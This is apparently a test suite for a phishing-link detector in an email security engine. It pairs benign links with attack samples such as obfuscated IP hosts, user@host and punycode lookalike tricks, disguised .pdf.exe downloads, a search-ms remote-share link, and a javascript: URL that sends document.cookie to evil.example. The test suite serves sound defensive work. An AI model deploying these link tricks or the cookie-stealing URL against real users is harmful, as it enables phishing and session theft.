import { BUILT_IN_BRANDS, DEFAULT_POLICY } from '../../../src/engine';
import { suspiciousLink } from '../../../src/engine/detectors/suspicious-link';
import { buildMessage } from '../../support/build-message';
import { testDetector } from '../../support/detector-tester';

const anchor = (href: string, text = 'Click here'): string => `<p>Hello</p><a href="${href}">${text}</a>`;

testDetector(suspiciousLink, {
  valid: [
    { name: 'ordinary https link', message: { html: anchor('https://www.example.com/news') } },
    { name: 'brand shortener amzn.to belongs to Amazon', message: { html: anchor('https://amzn.to/3xYz') } },
    { name: 'brand shortener a.co', message: { html: anchor('https://a.co/d/abc') } },
    { name: 'ESP click tracker with deep subdomains', message: { html: anchor('https://u123.ct.e1.sendgrid.net/ls/click?upn=abc') } },
    { name: 'javascript:void(0) does nothing', message: { html: anchor('javascript:void(0)') } },
    { name: 'inline data: image is a picture', message: { html: anchor('data:image/png;base64,iVBORw0KGgo=') } },
    { name: 'mailto and tel links', message: { html: `${anchor('mailto:help@example.com')}${anchor('tel:+390612345678')}` } },
    { name: 'domain with hex-looking letters is a name', message: { html: anchor('http://dead.beef.cafe/x') } },
    { name: 'German IDN written in ASCII is not punycode in the link', message: { html: anchor('https://www.mueller.de/') } },
    { name: 'source tarball download', message: { text: 'Get it at https://ftp.example.org/pub/tool-1.2.tar.gz' } },
    { name: 'server program in path (eBayISAPI.dll)', message: { html: anchor('http://cgi.ebay.com/ws/eBayISAPI.dll?ViewItem&item=1') } },
    { name: 'Google Doc (not a form)', message: { html: anchor('https://docs.google.com/document/d/1abc/edit') } },
    { name: 'relative link', message: { html: anchor('/local/page') } },
    { name: "X's own t.co links in X's notifications", message: { from: 'X <notify@x.com>', html: anchor('https://t.co/AbC123') } },
    { name: 'S3 bucket on an unrelated site path is not flagged by name alone', message: { html: anchor('https://www.example.com/s3.amazonaws.com/x') } },
    { name: 'German IDN written in Unicode', message: { html: anchor('https://www.müller.de/angebote') } },
    {
      name: 'newsletter with a clickable banner and real text',
      message: {
        html: `<a href="https://www.shop.example/sale"><img src="https://cdn.shop.example/banner.png"></a><p>${'Our spring collection is here: linen shirts, light jackets and sandals for the warm days ahead. '.repeat(3)}</p>`,
      },
    },
    { name: 'picture without a link and little text', message: { html: '<img src="https://cdn.example.com/card.png"><p>Auguri!</p>' } },
    { name: 'tracking pixel on a named host', message: { html: '<p>News</p><img src="https://open.esp.example/o/abc.gif" width="1" height="1">' } },
    { name: 'Safe Links wrapping a normal site', message: { html: anchor(`https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent('https://www.example.org/')}&data=1`) } },
  ],
  invalid: [
    {
      name: 'dotted IPv4 host',
      message: { html: anchor('http://192.0.2.10/login') },
      findings: [{ messageId: 'ipHost', severity: 'medium', data: { host: '192.0.2.10' }, evidence: 'http://192.0.2.10/login' }],
    },
    {
      name: 'hex and short IPv4 form',
      message: { html: anchor('http://0x7f.1/') },
      findings: [{ messageId: 'obfuscatedIp', severity: 'high', data: { host: '0x7f.1', address: '127.0.0.1' } }],
    },
    {
      name: 'dword IPv4 form',
      message: { html: anchor('http://3232235777/') },
      findings: [{ messageId: 'obfuscatedIp', data: { address: '192.168.1.1' } }],
    },
    {
      name: 'octal IPv4 form as in real phishing',
      message: { text: 'Open http://010036057336/4QAfVc now' },
      findings: [{ messageId: 'obfuscatedIp', severity: 'high' }],
    },
    {
      name: 'user@host trick',
      message: { html: anchor('http://paypal.com@evil.xyz/login', 'paypal.com') },
      findings: [
        { messageId: 'userinfo', severity: 'high', data: { shown: 'paypal.com', host: 'evil.xyz' } },
        { messageId: 'abusedTld', severity: 'low', data: { domain: 'evil.xyz', tld: '.xyz' } },
      ],
    },
    {
      name: 'user@host trick with an obfuscated IP behind',
      message: { html: anchor('http://g1fgv.com@0x40785ee0/4cfRjf') },
      findings: [{ messageId: 'userinfo', severity: 'high' }, { messageId: 'obfuscatedIp', data: { address: '64.120.94.224' } }],
    },
    {
      name: 'public shortener',
      message: { html: anchor('https://bit.ly/3abcDEF') },
      findings: [
        { messageId: 'shortener', severity: 'low', data: { domain: 'bit.ly' } },
        { messageId: 'onlyThrowawayLinks', severity: 'medium', data: { domains: 'bit.ly' }, evidence: 'bit.ly' },
      ],
    },
    {
      name: 't.co used outside X as a free redirector',
      message: { from: 'Promo <promo@deals.example>', html: anchor('https://t.co/AbC123') },
      findings: [{ messageId: 'shortener', data: { domain: 't.co' } }, { messageId: 'onlyThrowawayLinks', data: { domains: 't.co' } }],
    },
    {
      name: 'S3 bucket page',
      message: { html: anchor('https://mkrousmni.s3.us-east-2.amazonaws.com/index.html') },
      findings: [{ messageId: 'freeHosting', data: { service: 'amazonaws.com' } }, { messageId: 'onlyThrowawayLinks' }],
    },
    {
      name: 'abused TLD alone (Portuguese scam domain on .online)',
      message: { html: anchor('https://regularizar-cpf.online/', 'Regularize agora') },
      findings: [{ messageId: 'abusedTld', severity: 'low', data: { tld: '.online' } }],
    },
    {
      name: 'punycode host mixing scripts',
      message: { html: anchor('https://xn--pypal-4ve.com/signin') },
      findings: [{ messageId: 'punycode', severity: 'medium', data: { host: 'xn--pypal-4ve.com', unicode: 'pаypal.com' } }],
    },
    {
      name: 'punycode host in one script',
      message: { html: anchor('https://xn--mller-kva.de/') },
      findings: [{ messageId: 'punycode', severity: 'low', data: { unicode: 'müller.de' } }],
    },
    {
      name: 'free site builder',
      message: { html: anchor('https://secure-login-8812.web.app/') },
      findings: [
        { messageId: 'freeHosting', severity: 'low', data: { service: 'web.app' }, evidence: 'secure-login-8812.web.app' },
        { messageId: 'onlyThrowawayLinks', data: { domains: 'secure-login-8812.web.app' } },
      ],
    },
    {
      name: 'page on a site builder whose domain is not a public suffix',
      message: { html: anchor('https://poste-sblocco.weebly.com/login') },
      findings: [{ messageId: 'freeHosting', data: { service: 'weebly.com' } }, { messageId: 'onlyThrowawayLinks', data: { domains: 'poste-sblocco.weebly.com' } }],
    },
    {
      name: 'cloud storage bucket page',
      message: { html: anchor('https://bradesmail1221646298.z22.web.core.windows.net/index.html') },
      findings: [{ messageId: 'freeHosting', data: { service: 'web.core.windows.net' } }, { messageId: 'onlyThrowawayLinks' }],
    },
    {
      name: 'Google Forms',
      message: { html: anchor('https://docs.google.com/forms/d/e/1FAIpQLSf/viewform') },
      findings: [{ messageId: 'formService', severity: 'low', data: { service: 'docs.google.com' } }],
    },
    {
      name: 'forms.gle short form link',
      message: { html: anchor('https://forms.gle/abcdef') },
      findings: [{ messageId: 'formService', data: { service: 'forms.gle' } }],
    },
    {
      name: 'ngrok tunnel',
      message: { html: anchor('https://a1b2-203-0-113-5.ngrok-free.app/login') },
      findings: [{ messageId: 'tunnel', severity: 'medium' }],
    },
    {
      name: 'IPFS gateway subdomain',
      message: { html: anchor('https://bafybeibvyyt3thiwxdphrcs6qsopvntxhqwznbb54u5z27gapwqpiidp2m.ipfs.dweb.link') },
      findings: [{ messageId: 'ipfs', severity: 'high' }],
    },
    {
      name: 'IPFS path on an unknown gateway',
      message: { html: anchor('https://gw.example.net/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/login.html') },
      findings: [{ messageId: 'ipfs', severity: 'high' }],
    },
    {
      name: 'javascript: URL with code',
      message: { html: anchor("javascript:document.location='http://evil.example/'+document.cookie") },
      findings: [{ messageId: 'scriptUrl', severity: 'medium', data: { scheme: 'javascript' } }],
    },
    {
      name: 'data: URL carrying a page',
      message: { html: anchor('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==') },
      findings: [{ messageId: 'dataUrl', severity: 'high', data: { type: 'text/html' } }],
    },
    {
      name: 'search-ms handler (Windows search loader)',
      message: { html: anchor('search-ms:query=invoice&crumb=location:\\\\203.0.113.9@80\\share') },
      findings: [{ messageId: 'localHandler', severity: 'high', data: { scheme: 'search-ms' } }],
    },
    {
      name: 'brand domain used as a prefix',
      message: { html: anchor('https://www.amazon.it.account-verify.example.com/x') },
      findings: [{ messageId: 'deceptiveHost', severity: 'medium', data: { domain: 'example.com', brand: 'amazon' } }],
    },
    {
      name: 'many subdomain labels',
      message: { html: anchor('https://secure.login.account.update.example.net/') },
      findings: [{ messageId: 'deceptiveHost', severity: 'low', data: { domain: 'example.net' } }],
    },
    {
      name: 'executable download',
      message: { html: anchor('https://files.example.com/Invoice_2291.pdf.exe') },
      findings: [{ messageId: 'fileDownload', severity: 'medium', data: { file: 'Invoice_2291.pdf.exe', kind: 'executable' } }],
    },
    {
      name: 'disk image download behind Safe Links',
      message: {
        html: anchor(`https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent('https://cdn.example.org/dl/Fattura.iso')}&data=1`),
      },
      findings: [{ messageId: 'fileDownload', data: { kind: 'disk-image' }, evidence: 'https://cdn.example.org/dl/Fattura.iso' }],
    },
    {
      name: 'archive download is a weak signal',
      message: { html: anchor('https://cdn.example.org/docs/scan_0012.zip') },
      findings: [{ messageId: 'fileDownload', severity: 'low' }],
    },
    {
      name: 'one shortener among the shop own links is not a hidden destination',
      message: { from: 'Shop <news@shop.example>', html: `${anchor('https://www.shop.example/sale', 'Sale')}${anchor('https://bit.ly/3abcDEF', 'Our video')}` },
      findings: [{ messageId: 'shortener', severity: 'low' }],
    },
    {
      name: 'a shop on a cheap TLD linking to its own site',
      message: { from: 'Bottega <ordini@bottega-rossi.shop>', html: anchor('https://www.bottega-rossi.shop/ordine/123', 'Il tuo ordine') },
      findings: [{ messageId: 'abusedTld', severity: 'low' }],
    },
    {
      name: 'a club writing from Gmail about its .club site',
      message: { from: 'Circolo Tennis <circolotennis.rossi@gmail.com>', html: anchor('https://www.tennis-rossi.club/iscrizioni', 'Iscrizioni') },
      findings: [{ messageId: 'abusedTld', severity: 'low', data: { tld: '.club' } }],
    },
    {
      name: 'every link on a .top domain',
      message: { from: 'Agenzia <avvisi@mailer.example>', html: `${anchor('https://online.advogados-umsumendel.top/boletim', 'BOLETIM')}${anchor('https://online.advogados-umsumendel.top/x', 'clique aqui')}` },
      findings: [{ messageId: 'abusedTld', data: { tld: '.top' } }, { messageId: 'onlyThrowawayLinks', data: { domains: 'advogados-umsumendel.top' } }],
    },
    {
      name: 'a short link shared in a reply',
      message: { from: 'Anna <anna@example.org>', subject: 'Re: slides', inReplyTo: '<a1@example.org>', text: 'Here they are: https://bit.ly/3slides' },
      findings: [{ messageId: 'shortener', severity: 'low' }],
    },
    {
      name: 'a short link in a mailing-list post',
      message: { from: 'Dev <dev@example.org>', headers: [['List-Id', '<dev.lists.example.org>']], text: 'Survey: https://tinyurl.com/devsurvey' },
      findings: [{ messageId: 'shortener', severity: 'low' }],
    },
    {
      name: 'every button of a promotion goes through t.co, footer social links aside',
      message: {
        from: 'Promo <promo@deals.example>',
        html: `${anchor('https://t.co/AbC123', 'Claim your prize')}${anchor('https://t.co/XyZ789', 'unsubscribe')}${anchor('https://www.facebook.com/deals', 'Facebook')}`,
      },
      findings: [
        { messageId: 'shortener', evidence: 'https://t.co/AbC123' },
        { messageId: 'onlyThrowawayLinks', severity: 'medium', data: { domains: 't.co' } },
      ],
    },
    {
      name: 'a shortener and a cheap-TLD page, nothing on the sender domain',
      message: { from: 'Casino <bonus@mailer.example>', html: `${anchor('https://is.gd/bjyf5W', 'Bonus')}${anchor('http://offers4u.sa.com/unsub', 'here')}` },
      findings: [{ messageId: 'shortener' }, { messageId: 'abusedTld', data: { tld: '.sa.com' } }, { messageId: 'onlyThrowawayLinks', data: { domains: 'is.gd, offers4u.sa.com' } }],
    },
    {
      name: 'host written in mathematical bold letters',
      message: { from: 'Deals <deals@mailer.example>', html: `${anchor('https://www.example.com/a', 'Home')}${anchor('http://𝗮𝗱𝘃𝗲𝗻𝘁𝘂𝗿𝗲𝘀𝘄𝗲𝗹𝗹.𝗰𝗼𝗺/x', 'Offer')}` },
      findings: [{ messageId: 'styledHost', severity: 'medium', data: { plain: 'adventureswell.com' } }],
    },
    {
      name: 'the message is one clickable picture',
      message: { html: '<a href="https://www.example.com/offer"><img src="https://cdn.example.com/banner.png" alt=""></a><p>Click above</p>' },
      findings: [{ messageId: 'pictureOnly', severity: 'low', data: { chars: 11 }, evidence: 'https://www.example.com/offer' }],
    },
    {
      name: 'tracking pixel served from a bare IP address',
      message: { html: `<p>Membership expired</p>${anchor('https://www.example.com/renew', 'Renew')}<img src="http://203.0.113.205/track/3SSyAj4273" width="1" height="1">` },
      findings: [{ messageId: 'ipImage', severity: 'medium', data: { host: '203.0.113.205' }, evidence: 'http://203.0.113.205/track/3SSyAj4273' }],
    },
    {
      name: 'protocol-relative image on a bare IP',
      message: { html: `<p>Hi</p><img src="//198.51.100.7/img/banner.png">` },
      findings: [{ messageId: 'ipImage', data: { host: '198.51.100.7' } }],
    },
    {
      name: 'repeated IP links are one finding with several pieces of evidence',
      message: { html: `${anchor('http://198.51.100.1/a')}${anchor('http://198.51.100.1/b')}${anchor('http://198.51.100.1/c')}${anchor('http://198.51.100.1/d')}` },
      findings: [{ messageId: 'ipHost', evidence: 'http://198.51.100.1/c' }],
    },
  ],
});

describe('suspicious-link evidence grouping', () => {
  it('keeps at most 3 evidence items per kind of flag', () => {
    const html = Array.from({ length: 10 }, (_, i) => anchor(`http://198.51.100.${i + 1}/`)).join('');
    const findings = suspiciousLink.run(buildMessage({ html }), { policy: DEFAULT_POLICY, brands: BUILT_IN_BRANDS });
    expect(findings).toHaveLength(1);
    expect(findings[0]?.evidence).toHaveLength(3);
  });
});
